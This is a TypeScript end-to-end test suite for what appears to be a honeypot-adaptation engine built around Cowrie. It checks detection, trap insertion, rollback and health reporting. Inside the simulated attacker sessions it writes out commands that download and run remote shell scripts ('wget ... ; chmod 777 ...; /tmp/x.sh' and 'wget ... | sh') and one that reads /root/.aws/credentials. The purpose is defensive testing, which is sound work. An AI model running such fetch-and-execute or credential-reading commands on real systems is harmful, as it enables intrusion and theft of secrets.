import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { AdaptationPage } from '@cerberusmesh/contract/api-decisions';
import { HealthReport } from '@cerberusmesh/contract/api-health';
import { SourceList } from '@cerberusmesh/contract/api-sources';
import { LiveFrame } from '@cerberusmesh/contract/live';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import WebSocket from 'ws';
import type { z } from 'zod';
import { type RealCowrie, startCowrie } from './support/cowrie.ts';
import { createTestDatabase, type TestDatabase } from './support/database.ts';
import { type EngineProcess, startProcess } from './support/engine-process.ts';

type Message = z.infer<typeof LiveFrame>[number];

describe('a real attack on a real Cowrie, all the way', () => {
  let database: TestDatabase;
  let cowrie: RealCowrie;
  let folder: string;
  let up: EngineProcess;
  let url: string;
  let token: string;
  let live: LiveListener;
  beforeAll(async () => {
    [database, cowrie] = await Promise.all([createTestDatabase(), startCowrie({ prepare: true, sensor: 'cowrie-1' })]);
    folder = await mkdtemp(join(tmpdir(), 'cerberus-whole-'));
    up = startProcess(['up'], {
      CERBERUS_DATA_DIR: folder,
      DATABASE_URL: database.url,
      COWRIE_LOG_PATH: cowrie.logPath,
      CERBERUS_COWRIE_DIR: cowrie.dir,
      CERBERUS_COWRIE_PORT: String(cowrie.sshPort),
      PORT: '0',
    });
    url = await up.untilSaid(/is up:\s+(\S+)/);
    token = await up.untilSaid(/(cm_[\w-]+)/);
    live = await listen(url, token);
  }, 300_000);
  afterAll(async () => {
    live.close();
    await up.kill('SIGTERM');
    await cowrie.stop();
    await database.drop();
    await rm(folder, { recursive: true, force: true });
  });

  it('is on the live feed, assessed (how soon: `bench -- latency`), and the next attacker sees what it caused', async () => {
    const first = await cowrie.login();
    await first.type('uname -a');
    // Cowrie refuses private addresses at once; any other would be waited for.
    await first.type('wget http://10.9.8.7/x.sh -O /tmp/x.sh; chmod 777 /tmp/x.sh; /tmp/x.sh');
    const seen = await live.until(
      (message) => message.type === 'event' && message.event.command?.includes('10.9.8.7') === true,
    );
    expect(seen).toMatchObject({ event: { severity: 'HIGH', is_analyzed: true } });
    expect(seen).toHaveProperty('event.techniques', expect.arrayContaining([expect.stringMatching(/^T1105/)]));

    await live.until((message) => message.type === 'decision' && message.decision.decision === 'insert_trap');
    for (const kind of ['AWS_CREDENTIALS', 'BANNER_CHANGE']) {
      await live.until(
        (message) =>
          message.type === 'adaptation' &&
          message.adaptation.action_type === kind &&
          message.adaptation.status === 'verified',
      );
    }
    // The one who caused it was not cut off.
    expect(first.isOpen()).toBe(true);
    expect(await first.type('pwd')).toContain('/');

    const second = await cowrie.login();
    expect(second.banner).not.toBe(first.banner);
    expect(await second.type('cat /root/.aws/credentials')).toMatch(/aws_access_key_id = AKIA[A-Z2-7]{16}/);
  }, 60_000);

  it('leaves the visit of its own probe out of the statistics', async () => {
    const probes = await rows('select event_count from sessions where is_probe');
    expect(probes.length).toBeGreaterThan(0);
    const [counted] = await rows('select sum(events)::int as events from rollup_hours');
    const [own] = await rows('select count(*)::int as events from events where not is_probe');
    expect(counted).toEqual(own);
  });

  it('does nothing more while it rests, and says why', async () => {
    const visitor = await cowrie.login();
    await visitor.type('wget http://10.9.8.8/y.sh -O- | sh');
    const message = await live.until((told) => told.type === 'decision' && told.decision.why.includes('rests until'));
    expect(message).toMatchObject({ decision: { decision: 'monitor', adaptations: [] } });
  }, 30_000);

  it('takes an adaptation back by the API, and the next attacker sees the old world', async () => {
    const { data } = await get('/api/adaptations?status=verified', AdaptationPage);
    expect(data).toHaveLength(2);
    for (const { id } of data) {
      const answer = await fetch(`${url}/api/adaptations/${id}/rollback`, {
        method: 'POST',
        headers: headers({ 'content-type': 'application/json' }),
        body: '{}',
      });
      expect(answer.status).toBe(200);
    }
    const visitor = await cowrie.login();
    expect(await visitor.type('cat /root/.aws/credentials')).not.toContain('AKIA');
  }, 30_000);

  it('shows a balanced ledger and a healthy engine', async () => {
    const { data } = await get('/api/sources', SourceList);
    expect(data).toMatchObject([{ balanced: true, bytes_parked: 0 }]);
    for (const source of data) {
      expect(source.bytes_seen).toBe(source.bytes_stored + source.bytes_parked + source.bytes_unread);
    }
    expect(await get('/health', HealthReport)).toMatchObject({
      status: 'healthy',
      database: 'connected',
      logWatcher: 'active',
    });
  });

  async function get<T>(path: string, schema: z.ZodType<T>): Promise<T> {
    return schema.parse(await (await fetch(`${url}${path}`, { headers: headers() })).json());
  }

  function headers(more: Record<string, string> = {}): Record<string, string> {
    return { authorization: `Bearer ${token}`, ...more };
  }

  async function rows(text: string): Promise<unknown[]> {
    return (await database.pool.query(text)).rows;
  }
});

interface LiveListener {
  /** The first message, of those that came and those to come, for which `wanted` holds. */
  until(wanted: (message: Message) => boolean): Promise<Message>;
  close(): void;
}

async function listen(url: string, token: string): Promise<LiveListener> {
  const socket = new WebSocket(`${url.replace('http', 'ws')}/ws`, ['cerberus.v1', token]);
  const messages: Message[] = [];
  const waiting = new Set<() => void>();
  socket.on('message', (bytes: Buffer) => {
    messages.push(...LiveFrame.parse(JSON.parse(bytes.toString('utf8'))));
    for (const look of waiting) look();
  });
  await new Promise((resolve, reject) => {
    socket.once('open', resolve);
    socket.once('error', reject);
  });
  return {
    until(wanted) {
      return new Promise((resolve, reject) => {
        const late = setTimeout(
          () => reject(new Error(`not told within 20 s; told: ${JSON.stringify(messages.slice(-5))}`)),
          20_000,
        );
        const look = () => {
          const found = messages.find(wanted);
          if (!found) return;
          clearTimeout(late);
          waiting.delete(look);
          resolve(found);
        };
        waiting.add(look);
        look();
      });
    },
    close: () => socket.close(),
  };
}
